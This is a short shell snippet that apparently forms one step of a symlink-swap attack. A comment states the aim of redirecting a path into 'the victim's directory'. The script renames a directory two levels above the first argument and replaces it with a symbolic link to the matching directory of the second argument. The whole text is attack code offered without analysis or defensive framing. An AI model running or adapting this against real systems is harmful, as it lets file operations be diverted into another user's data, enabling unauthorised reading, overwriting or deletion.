# A directory further up is replaced by a link, so that the path leads to the victim's directory.
up=${1%/*/*}
mv "$up" "$up.away"
ln -s "${2%/*/*}" "$up"
